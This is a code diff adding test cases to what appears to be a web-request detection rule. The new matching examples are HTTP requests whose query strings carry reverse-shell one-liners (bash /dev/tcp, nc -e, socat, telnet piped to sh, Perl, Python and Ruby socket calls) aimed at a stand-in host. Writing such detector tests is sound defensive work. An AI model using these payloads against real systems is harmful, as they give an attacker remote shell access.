@@ -1,3 +1,4 @@
+import { each } from '../example.ts'
 import { defineRule } from '../rule.ts'
 
 export default defineRule({
@@ -62,6 +63,16 @@ export default defineRule({
       referrer: 'https://www.example.com/a?x=;bash+-i+>%26+/dev/tcp/203.0.113.9/4444+0>%261',
     },
     { request: 'GET / HTTP/1.1', user: ';bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' },
+    'GET /a?x=cat+/dev/tcp/203.0.113.9/4444 HTTP/1.1',
+    'GET /a?x=cat+/dev/udp/203.0.113.9/53 HTTP/1.1',
+    ...each(
+      'GET /a?x={} HTTP/1.1',
+      `bash+-i+>%26+a zsh+-i ksh+-i+|a sh+-i fsockopen('203.0.113.9',4444) IO::Socket::INET->new
+    perl+-e+'use+Socket;' pty.spawn('/bin/sh') TCPSocket.new('203.0.113.9',4444) TCPSocket.open('203.0.113.9',4444)
+    telnet+203.0.113.9+4444+|+sh socat+tcp:203.0.113.9:4444+exec:sh`,
+    ),
+    'GET /a?x=nc.exe+203.0.113.9+4444+-e+/bin/sh HTTP/1.1',
+    'GET /a?x=nc.traditional+203.0.113.9+4444+-e+/bin/sh HTTP/1.1',
   ],
   misses: [
     'GET /docs/python/socket.socketpair HTTP/1.1',
